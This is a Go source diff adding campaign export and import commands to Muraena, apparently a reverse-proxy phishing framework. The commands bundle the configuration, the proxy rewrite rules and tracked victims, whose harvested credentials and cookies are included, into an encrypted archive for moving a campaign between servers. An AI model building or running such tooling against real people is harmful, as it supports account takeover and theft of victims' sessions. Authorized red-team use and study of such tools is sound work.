@@ -0,0 +1,384 @@
+package proxy
+
+import (
+	"archive/tar"
+	"bytes"
+	"compress/gzip"
+	"encoding/json"
+	"errors"
+	"flag"
+	"fmt"
+	"io"
+	"io/ioutil"
+	"os"
+	"strings"
+	"time"
+
+	"github.com/muraenateam/muraena/core"
+	"github.com/muraenateam/muraena/core/db"
+	"github.com/muraenateam/muraena/log"
+	"github.com/muraenateam/muraena/session"
+)
+
+// Files of a campaign bundle
+const (
+	bundleManifest = "manifest.json"
+	bundleConfig   = "config.toml"
+	bundleSession  = "session.json"
+	bundleVictims  = "victims.json"
+)
+
+// BundleManifest describes the campaign saved in a bundle
+type BundleManifest struct {
+	// Release is the Muraena release that exported the campaign
+	Release  string    `json:"release"`
+	Created  time.Time `json:"created"`
+	Phishing string    `json:"phishing"`
+	Target   string    `json:"target"`
+	Origins  int       `json:"origins"`
+	Victims  int       `json:"victims"`
+}
+
+// writeBundle writes the files as a gzipped tar archive, in order
+func writeBundle(w io.Writer, names []string, files map[string][]byte) error {
+	zw := gzip.NewWriter(w)
+	tw := tar.NewWriter(zw)
+
+	for _, name := range names {
+		content, ok := files[name]
+		if !ok {
+			continue
+		}
+
+		header := &tar.Header{Name: name, Mode: 0600, Size: int64(len(content)), ModTime: time.Now()}
+		if err := tw.WriteHeader(header); err != nil {
+			return err
+		}
+		if _, err := tw.Write(content); err != nil {
+			return err
+		}
+	}
+
+	if err := tw.Close(); err != nil {
+		return err
+	}
+	return zw.Close()
+}
+
+// readBundle returns the files of a gzipped tar archive
+func readBundle(r io.Reader) (map[string][]byte, error) {
+	zr, err := gzip.NewReader(r)
+	if err != nil {
+		return nil, err
+	}
+
+	files := make(map[string][]byte)
+	tr := tar.NewReader(zr)
+	for {
+		header, err := tr.Next()
+		if err == io.EOF {
+			break
+		}
+		if err != nil {
+			return nil, err
+		}
+
+		if files[header.Name], err = ioutil.ReadAll(tr); err != nil {
+			return nil, err
+		}
+	}
+
+	if _, ok := files[bundleManifest]; !ok {
+		return nil, errors.New("not a campaign bundle: missing " + bundleManifest)
+	}
+
+	return files, nil
+}
+
+// loadCampaignConfiguration loads the configuration of the export and import subcommands
+func loadCampaignConfiguration(config *string) (*session.Session, error) {
+	sess := &session.Session{Options: core.GetDefaultOptions()}
+	sess.Options.ConfigFilePath = config
+	log.Init(sess.Options, false, "")
+
+	if err := sess.GetConfiguration(); err != nil {
+		return nil, err
+	}
+
+	return sess, nil
+}
+
+// openStorage opens the storage of the tracking data, connecting to Redis if it is the backend
+func openStorage(sess *session.Session) error {
+	storage := strings.ToLower(sess.Config.Storage.Type)
+	if storage == "" || storage == "redis" {
+		if err := sess.InitRedis(); err != nil {
+			return err
+		}
+	}
+
+	return db.Init(sess)
+}
+
+// ExportCampaign runs the export subcommand, returning the exit code:
+// the configuration, the transformation rules of session.json and the tracked victims, with their credentials and
+// cookies, are saved in a single archive encrypted with the operator public key.
+func ExportCampaign(args []string) int {
+	flags := flag.NewFlagSet("export", flag.ExitOnError)
+	config := flags.String("config", "", "Path to config file.")
+	key := flags.String("key", "", "Public key encrypting the bundle, the storage public key if empty.")
+	out := flags.String("out", "", "Path of the bundle, <phishing>_<target>.bundle if empty.")
+	flags.Usage = func() {
+		fmt.Fprintf(flags.Output(), "Usage: muraena export -config <file> [-key <public key>] [-out <bundle>]\n")
+		flags.PrintDefaults()
+	}
+	_ = flags.Parse(args)
+
+	if *config == "" {
+		flags.Usage()
+		return 2
+	}
+
+	sess, err := loadCampaignConfiguration(config)
+	if err != nil {
+		fmt.Fprintln(os.Stderr, err)
+		return 1
+	}
+
+	if *key == "" {
+		*key = sess.Config.Storage.PublicKey
+	}
+	if *key == "" {
+		fmt.Fprintln(os.Stderr, "Missing public key: set -key or storage.publicKey, see -keygen")
+		return 2
+	}
+	publicKey, err := core.ParseKey(*key)
+	if err != nil {
+		fmt.Fprintln(os.Stderr, err)
+		return 1
+	}
+
+	manifest, files, err := exportCampaign(sess)
+	if err != nil {
+		fmt.Fprintln(os.Stderr, err)
+		return 1
+	}
+
+	var archive bytes.Buffer
+	if err := writeBundle(&archive, []string{bundleManifest, bundleConfig, bundleSession, bundleVictims}, files); err != nil {
+		fmt.Fprintln(os.Stderr, err)
+		return 1
+	}
+
+	sealed, err := core.SealData(archive.Bytes(), publicKey)
+	if err != nil {
+		fmt.Fprintln(os.Stderr, err)
+		return 1
+	}
+
+	if *out == "" {
+		*out = fmt.Sprintf("%s_%s.bundle", manifest.Phishing, manifest.Target)
+	}
+	if err := core.WriteFileAtomic(*out, sealed, 0600); err != nil {
+		fmt.Fprintln(os.Stderr, err)
+		return 1
+	}
+
+	fmt.Printf("Exported the campaign %s -> %s, %d origins and %d victims, to %s\n",
+		manifest.Phishing, manifest.Target, manifest.Origins, manifest.Victims, *out)
+	return 0
+}
+
+// exportCampaign returns the files of the bundle of the campaign
+func exportCampaign(sess *session.Session) (*BundleManifest, map[string][]byte, error) {
+	config := sess.Config
+	manifest := &BundleManifest{
+		Release:  core.Version,
+		Created:  time.Now().UTC(),
+		Phishing: config.Proxy.Phishing,
+		Target:   config.Proxy.Target,
+	}
+	files := make(map[string][]byte)
+
+	// The effective configuration is saved, with the included files and the profiles already merged
+	include, profiles := config.Include, config.Profiles.Use
+	config.Include, config.Profiles.Use = nil, nil
+	var buf bytes.Buffer
+	err := sess.PrintConfiguration(&buf)
+	config.Include, config.Profiles.Use = include, profiles
+	if err != nil {
+		return nil, nil, err
+	}
+	files[bundleConfig] = buf.Bytes()
+
+	r := &Replacer{Phishing: manifest.Phishing, Target: manifest.Target, stateDir: sess.StateDirectory()}
+	switch err := r.Load(); {
+	case err == nil:
+		if files[bundleSession], err = json.MarshalIndent(r, "", "\t"); err != nil {
+			return nil, nil, err
+		}
+		manifest.Origins = len(r.GetExternalOrigins())
+	case os.IsNotExist(err):
+		log.Warning("No session.json found in %s, the transformation rules are not exported", r.GetSessionFileName())
+	default:
+		return nil, nil, err
+	}
+
+	if config.Tracking.Enabled {
+		if err := openStorage(sess); err != nil {
+			return nil, nil, err
+		}
+		defer db.Close()
+
+		victims, err := db.GetAllVictims()
+		if err != nil {
+			return nil, nil, err
+		}
+		if files[bundleVictims], err = json.Marshal(victims); err != nil {
+			return nil, nil, err
+		}
+		manifest.Victims = len(victims)
+	}
+
+	if files[bundleManifest], err = json.MarshalIndent(manifest, "", "\t"); err != nil {
+		return nil, nil, err
+	}
+
+	return manifest, files, nil
+}
+
+// ImportCampaign runs the import subcommand, returning the exit code:
+// the bundle is decrypted with the operator private key, and the campaign is restored in the instance of the
+// configuration. The configuration of the bundle is written if the file does not exist, so that the campaign can be
+// moved to a new server as it is, or to a configuration adapted to it, i.e. with other listeners.
+func ImportCampaign(args []string) int {
+	flags := flag.NewFlagSet("import", flag.ExitOnError)
+	config := flags.String("config", "", "Path to config file, written from the bundle if it does not exist.")
+	key := flags.String("key", "", "Path of the private key file decrypting the bundle.")
+	force := flags.Bool("force", false, "Replace the existing session.json, kept as a backup.")
+	flags.Usage = func() {
+		fmt.Fprintf(flags.Output(), "Usage: muraena import -config <file> -key <private key file> [-force] <bundle>\n")
+		flags.PrintDefaults()
+	}
+	_ = flags.Parse(args)
+
+	if *config == "" || *key == "" || flags.NArg() != 1 {
+		flags.Usage()
+		return 2
+	}
+
+	data, err := ioutil.ReadFile(*key)
+	if err != nil {
+		fmt.Fprintln(os.Stderr, err)
+		return 1
+	}
+	privateKey, err := core.ParseKey(strings.TrimSpace(string(data)))
+	if err != nil {
+		fmt.Fprintln(os.Stderr, err)
+		return 1
+	}
+
+	sealed, err := ioutil.ReadFile(flags.Arg(0))
+	if err != nil {
+		fmt.Fprintln(os.Stderr, err)
+		return 1
+	}
+	archive, err := core.OpenData(sealed, privateKey)
+	if err != nil {
+		fmt.Fprintln(os.Stderr, err)
+		return 1
+	}
+	files, err := readBundle(bytes.NewReader(archive))
+	if err != nil {
+		fmt.Fprintln(os.Stderr, err)
+		return 1
+	}
+
+	var manifest BundleManifest
+	if err := json.Unmarshal(files[bundleManifest], &manifest); err != nil {
+		fmt.Fprintln(os.Stderr, err)
+		return 1
+	}
+
+	if _, err := os.Stat(*config); os.IsNotExist(err) {
+		if err := core.WriteFileAtomic(*config, files[bundleConfig], 0600); err != nil {
+			fmt.Fprintln(os.Stderr, err)
+			return 1
+		}
+		fmt.Printf("Configuration written to %s\n", *config)
+	}
+
+	sess, err := loadCampaignConfiguration(config)
+	if err != nil {
+		fmt.Fprintln(os.Stderr, err)
+		return 1
+	}
+
+	restored, err := importCampaign(sess, files, *force)
+	if err != nil {
+		fmt.Fprintln(os.Stderr, err)
+		return 1
+	}
+
+	fmt.Printf("Imported the campaign %s -> %s exported on %s, %d origins and %d of %d victims\n",
+		manifest.Phishing, manifest.Target, manifest.Created.Format(time.RFC3339), manifest.Origins, restored,
+		manifest.Victims)
+	return 0
+}
+
+// importCampaign restores the transformation rules and the victims of the bundle, returning the victims restored.
+// The victims already stored are skipped.
+func importCampaign(sess *session.Session, files map[string][]byte, force bool) (int, error) {
+	config := sess.Config
+
+	if content, ok := files[bundleSession]; ok {
+		r, err := decodeSession(content, bundleSession)
+		if err != nil {
+			return 0, err
+		}
+		if err := r.validate(config.Proxy.Phishing, config.Proxy.Target); err != nil {
+			return 0, fmt.Errorf("the bundle does not match the configuration: %s", err)
+		}
+
+		r.stateDir = sess.StateDirectory()
+		filename := r.GetSessionFileName()
+		if _, err := os.Stat(filename); err == nil && !force {
+			return 0, fmt.Errorf("%s already exists, use -force to replace it", filename)
+		}
+		if err := r.Save(); err != nil {
+			return 0, err
+		}
+	}
+
+	content, ok := files[bundleVictims]
+	if !ok {
+		return 0, nil
+	}
+	if !config.Tracking.Enabled {
+		log.Warning("Tracking is disabled, the victims are not imported")
+		return 0, nil
+	}
+
+	var victims []db.Victim
+	if err := json.Unmarshal(content, &victims); err != nil {
+		return 0, err
+	}
+
+	if err := openStorage(sess); err != nil {
+		return 0, err
+	}
+	defer db.Close()
+
+	restored := 0
+	for _, v := range victims {
+		ok, err := db.Restore(v)
+		if err != nil {
+			return restored, fmt.Errorf("error restoring the victim %s: %s", v.ID, err)
+		}
+		if ok {
+			restored++
+		}
+	}
+
+	return restored, nil
+}